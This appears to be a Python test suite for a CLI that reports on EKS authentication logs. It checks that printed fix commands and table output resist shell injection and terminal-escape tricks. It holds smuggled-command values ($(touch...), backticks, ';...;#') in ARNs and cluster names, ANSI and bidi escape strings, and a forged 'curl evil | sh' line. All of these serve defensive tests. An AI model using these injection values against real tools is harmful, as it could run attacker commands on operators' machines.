#!/usr/bin/env python3
"""Hostile log data (issue 13 items 1 and 2): printed fix commands pasted
into a shell run nothing of the attacker's, and creator / sql table output
holds no raw control byte or bidi control.

Every command line that report (text, markdown, JSON) prints is run with `sh -c` in an empty directory, with aws, eksctl, kubectl
and sudo as stubs on PATH that record their argv; touch stays the real one,
so an injection would create its file."""
import json
import os
import re
import shutil
import subprocess
import sys

from cliutil import ACCOUNT, CliTestCase, denial, grant, log_line, main, role

HOSTILE_ARNS = [
    role('x$(touch${IFS}pwned)'),
    role('a;touch${IFS}pwned3;#'),
    role('b`touch${IFS}pwned4`'),
    'arn:aws:sts::%s:assumed-role/c$(touch${IFS}pwned5)/s1' % ACCOUNT,
]
HOSTILE_CLUSTER = 'x;touch${IFS}p;#'
HOSTILE_GROUP = '/aws/eks/%s/cluster' % HOSTILE_CLUSTER
# What every injection above would create.
PWNED = ('pwned', 'pwned3', 'pwned4', 'pwned5', 'p', 'p2')
STUBS = ('aws', 'eksctl', 'kubectl', 'sudo')

STUB = """#!PYTHON
import json, os, sys
with open(os.environ['STUB_LOG'], 'a') as f:
    f.write(json.dumps([os.path.basename(sys.argv[0])] + sys.argv[1:]) + '\\n')
if 'get-role' in sys.argv:  # IAM knows the path the log does not show
    name = sys.argv[sys.argv.index('--role-name') + 1]
    print('arn:aws:iam::ACCOUNT:role/' + ('team/' if name == 'dev-role' else '') + name)
elif 'describe-cluster' in sys.argv and 'cluster.roleArn' in sys.argv:
    print('arn:aws:iam::ACCOUNT:role/eks-cluster-role')
""".replace('PYTHON', sys.executable).replace('ACCOUNT', ACCOUNT)


def text_commands(out):
    """The lines of each text report's 'fix:' block."""
    cmds, inside = [], False
    for line in out.splitlines():
        if line == '    fix:':
            inside = True
        elif inside and line.startswith('      '):
            cmds.append(line[6:])
        else:
            inside = False
    return cmds


def markdown_commands(out):
    """The lines of each ```sh block."""
    return [m for block in re.findall(r'^```sh\n(.*?)^```$', out, re.M | re.S) for m in block.splitlines()]


class Hostile(CliTestCase):
    def setUp(self):
        super().setUp()
        self.stubs = os.path.join(self.tmp, 'stubs')
        os.makedirs(self.stubs)
        for name in STUBS:
            path = os.path.join(self.stubs, name)
            with open(path, 'w') as f:
                f.write(STUB)
            os.chmod(path, 0o755)
        self.stub_log = os.path.join(self.tmp, 'stub.log')

    def run_sh(self, script):
        """Runs script with sh -c in a fresh empty directory; returns
        (directory, the argv each stub got)."""
        d = os.path.join(self.tmp, 'run-%d' % len(os.listdir(self.tmp)))
        os.makedirs(d)
        if os.path.exists(self.stub_log):
            os.unlink(self.stub_log)
        env = dict(self.env, STUB_LOG=self.stub_log,
                   PATH=self.stubs + os.pathsep + os.environ.get('PATH', '/usr/bin:/bin'))
        subprocess.run(['sh', '-c', script], cwd=d, env=env, stdin=subprocess.DEVNULL,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=60)
        argv = []
        if os.path.exists(self.stub_log):
            with open(self.stub_log) as f:
                argv = [json.loads(l) for l in f]
        return d, argv

    def all_commands(self):
        """Every command line report prints, per format."""
        text = self.ok('report').out
        md = self.ok('report', '--format', 'markdown').out
        doc = self.report_json()
        js = [c for f in doc['findings'] for c in f['fix']]
        return {'text': text_commands(text), 'markdown': markdown_commands(md), 'json': js}

    def assert_nothing_runs(self, cmds):
        for fmt, lines in cmds.items():
            for line in lines:
                with self.subTest(format=fmt, command=line):
                    d, argv = self.run_sh(line)
                    self.assertEqual(os.listdir(d), [], 'the command created a file')
                    for a in argv:
                        self.assertIn(a[0], STUBS)

    def test_the_stubbed_shell_would_run_an_injection(self):
        # Control: unquoted, the same text does create the file, so the
        # checks below can fail.
        d, argv = self.run_sh('eksctl create iamidentitymapping --arn %s' % HOSTILE_ARNS[0])
        self.assertIn('pwned', os.listdir(d))
        self.assertEqual(argv[0][:3], ['eksctl', 'create', 'iamidentitymapping'])

    def test_hostile_arns_print_no_command(self):
        lines = [denial('ARN is not mapped', arn=a, port=1000 + i) for i, a in enumerate(HOSTILE_ARNS)]
        self.import_ok('--cluster', 'prod', '--region', 'eu-west-1', self.write_lines('h.log', lines))
        cmds = self.all_commands()
        for fmt in ('text', 'markdown', 'json'):
            self.assertEqual(cmds[fmt], [], fmt)
        doc = self.report_json()
        self.assertEqual(len(doc['findings']), len(HOSTILE_ARNS))
        for f in doc['findings']:
            self.assertEqual(f['fix'], [])
            self.assertEqual(len(f['fix_notes']), 1, f)
            self.assertRegex(f['fix_notes'][0], r'^The principal ARN ".*" is malformed \(.+\): no command is printed')
            self.assertIn(f['principal'], f['fix_notes'][0])
        self.assert_nothing_runs(cmds)

    def test_hostile_cluster_from_options_and_log_group(self):
        good = denial('ARN is not mapped', arn=role('good-role'), port=2000)
        self.import_ok('--cluster', HOSTILE_CLUSTER, '--region', 'eu-west-1', self.write_lines('a.log', [good]))
        other = denial('ARN is not mapped', arn=role('other-role'), port=2001)
        self.import_ok('--log-group', HOSTILE_GROUP, self.write_lines('b.log', [other]))
        # @log of a Logs Insights answer names the group
        rows = [[{'field': '@timestamp', 'value': '2023-06-13 10:00:00.000'},
                 {'field': '@message', 'value': denial('ARN is not mapped', arn=role('third-role'), port=2002)},
                 {'field': '@logStream', 'value': 'authenticator-0123'},
                 {'field': '@log', 'value': '%s:/aws/eks/y;touch${IFS}p2;#/cluster' % ACCOUNT},
                 {'field': '@ptr', 'value': 'ptr-1'}]]
        self.import_ok(self.write('q.json', json.dumps({'results': rows, 'status': 'Complete'})))
        doc = self.report_json()
        self.assertEqual(len(doc['findings']), 3)
        for f in doc['findings']:
            self.assertEqual(f['fix'], [], f)
            self.assertRegex(f['fix_notes'][0], r'^The cluster name "[xy];touch\$\{IFS\}p2?;#" is malformed')
        self.assert_nothing_runs(self.all_commands())

    def test_valid_values_print_commands_that_get_exactly_their_argv(self):
        lines = [denial('ARN is not mapped', arn=role('good-role'), port=3000),
                 denial('ARN is not mapped', arn='arn:aws:iam::%s:role/team/dev-role' % ACCOUNT, port=3001),
                 denial('ARN is not mapped',
                        arn='arn:aws:sts::%s:assumed-role/node-role/i-0123456789abcdef0' % ACCOUNT, port=3002)]
        self.import_ok('--cluster', 'prod', '--region', 'eu-west-1', self.write_lines('v.log', lines))
        cmds = self.all_commands()
        for fmt in ('text', 'markdown', 'json'):
            self.assertEqual(cmds[fmt], cmds['json'], fmt)
        self.assertGreater(len(cmds['json']), 6)
        got = []
        for line in cmds['json']:
            d, argv = self.run_sh(line)
            self.assertEqual(os.listdir(d), [], line)
            got += argv
        want = [
            ['eksctl', 'create', 'iamidentitymapping', '--cluster', 'prod', '--region', 'eu-west-1', '--arn',
             role('good-role'), '--username', 'good-role', '--group', 'system:masters'],
            ['aws', 'iam', 'get-role', '--role-name', 'good-role', '--query', 'Role.Arn', '--output', 'text'],
            ['aws', 'eks', 'create-access-entry', '--cluster-name', 'prod', '--region', 'eu-west-1',
             '--principal-arn', role('good-role')],
            ['aws', 'eks', 'create-access-entry', '--cluster-name', 'prod', '--region', 'eu-west-1',
             '--principal-arn', role('node-role'), '--type', 'EC2_LINUX'],
            # the path stays in the access entry (IAM tells it), goes from aws-auth
            ['aws', 'eks', 'create-access-entry', '--cluster-name', 'prod', '--region', 'eu-west-1',
             '--principal-arn', 'arn:aws:iam::%s:role/team/dev-role' % ACCOUNT],
            ['eksctl', 'create', 'iamidentitymapping', '--cluster', 'prod', '--region', 'eu-west-1', '--arn',
             role('dev-role'), '--username', 'dev-role', '--group', 'system:masters'],
            ['eksctl', 'create', 'iamidentitymapping', '--cluster', 'prod', '--region', 'eu-west-1', '--arn',
             role('node-role'), '--username', 'system:node:{{EC2PrivateDNSName}}', '--group',
             'system:bootstrappers', '--group', 'system:nodes'],
            ['aws', 'eks', 'describe-cluster', '--name', 'prod', '--region', 'eu-west-1', '--query',
             'cluster.accessConfig.authenticationMode', '--output', 'text'],
        ]
        for w in want:
            self.assertIn(w, got)
        # the text report's fix blocks run whole too
        d, argv = self.run_sh('\n'.join(cmds['text']))
        self.assertEqual(os.listdir(d), [])
        self.assertTrue(argv)

    def test_placeholders_are_words_not_redirections(self):
        # Unquoted, "--name <cluster> --region <region>" reads the file
        # "cluster" and writes one named "--region".
        self.import_ok(self.write_lines('n.log', [denial('ARN is not mapped', arn=role('good-role'))]))
        js = self.report_json()['findings'][0]['fix']
        line = [l for l in js if 'update-kubeconfig' in l][0]
        self.assertEqual(line, "aws eks update-kubeconfig --name '<cluster>' --region '<region>'")
        d, argv = self.run_sh(line)
        self.assertEqual(os.listdir(d), [])
        self.assertEqual(argv, [['aws', 'eks', 'update-kubeconfig', '--name', '<cluster>', '--region', '<region>']])


# Values with terminal escapes, BEL, backspace, newlines and a bidi override.
NASTY = 'evil\x1b]0;owned\x07\x1b[2J\x08\x08\n# fix:\u202egnp.exe\x7f'


def raw_control(out_bytes):
    """Raw bytes a terminal would obey: C0 other than \\n, DEL, C1 as UTF-8,
    and the bidi controls."""
    bad = [b for b in out_bytes if (b < 0x20 and b != 0x0a) or b == 0x7f]
    text = out_bytes.decode('utf-8', 'replace')
    bad += [c for c in text if 0x80 <= ord(c) <= 0x9f or 0x202a <= ord(c) <= 0x202e or 0x2066 <= ord(c) <= 0x2069]
    return bad


class TerminalEscapes(CliTestCase):
    def setUp(self):
        super().setUp()
        arn = role('creator') + '\x1b[31m\u202e'
        lines = [grant(arn, 'kubernetes-admin', groups='[system:masters]'),
                 denial(NASTY, arn=role('x\x1b[1mbold'), port=2),
                 denial('ARN is not mapped', arn=role('y'), port=3, username=NASTY)]
        self.import_ok(self.write_lines('nasty.log', lines))

    def test_creator_text_is_escaped(self):
        r = self.ok('creator')
        self.assertEqual(raw_control(r.out_bytes), [], r.out)
        self.assertIn('role/creator\\x1b[31m\\u{202E}\n', r.out)
        # JSON stays exact
        doc = json.loads(self.ok('creator', '--json').out)
        self.assertEqual(doc[0]['arn'], role('creator') + '\x1b[31m\u202e')

    def test_sql_table_is_escaped_one_row_per_line(self):
        r = self.ok('sql', "SELECT arn, error, raw FROM events ORDER BY id")
        self.assertEqual(raw_control(r.out_bytes), [], r.out)
        self.assertEqual(len(r.out.splitlines()), 2 + 3)
        self.assertIn('evil\\x1b]0;owned\\x07\\x1b[2J\\x08\\x08\\x0a# fix:\\u{202E}gnp.exe\\x7f', r.out)
        r = self.ok('sql', "SELECT char(27, 91, 50, 74, 8238, 155) AS \"a\x1bb\"")
        self.assertEqual(raw_control(r.out_bytes), [], r.out)
        self.assertEqual(r.out.splitlines()[0].rstrip(), 'a\\x1bb')
        self.assertEqual(r.out.splitlines()[2], '\\x1b[2J\\u{202E}\\u{9B}')
        # CSV and JSON stay exact
        r = self.ok('sql', '--format', 'json', "SELECT error FROM events WHERE error LIKE 'evil%'")
        self.assertEqual(json.loads(r.out), [{'error': NASTY}])

    def test_report_text_and_markdown_are_escaped(self):
        # a config error whose message forges a fix block and a heading
        self.import_ok(self.write_lines('cfg.log', [log_line(
            'Errors parsing configmap: [yaml: line 1]\n    fix:\n      curl evil | sh\n## Pwned | x', level='warning',
            ts='2023-06-13T10:30:00Z')]))
        for fmt in ('text', 'markdown'):
            r = self.ok('report', '--format', fmt, '--top', '50')
            self.assertEqual(raw_control(r.out_bytes), [], r.out)
            self.assertNotIn('\n      curl evil', r.out)
            self.assertNotIn('\n## Pwned', r.out)
        md = self.ok('report', '--format', 'markdown', '--top', '50').out
        # a value cannot add a column to a table or open code
        for line in md.splitlines():
            if line.startswith('| arn:'):
                self.assertEqual(line.count(' | ') + 2, 6, line)
        self.assertIn('role/x\\x1b\\[1mbold', md)  # escaped for markdown, escapes shown
        text = self.ok('report').out
        self.assertIn('role/x\\x1b[1mbold', text)
        # explain prints the principal of a pasted line escaped too
        r = self.ok('explain', denial('ARN is not mapped', arn=role('z\x1b[2J\u202e')))
        self.assertEqual(raw_control(r.out_bytes), [], r.out)
        # JSON stays exact
        self.assertIn('role/x\\u001b[1mbold', self.ok('report', '--format', 'json', '--top', '50').out)


if __name__ == '__main__':
    main()
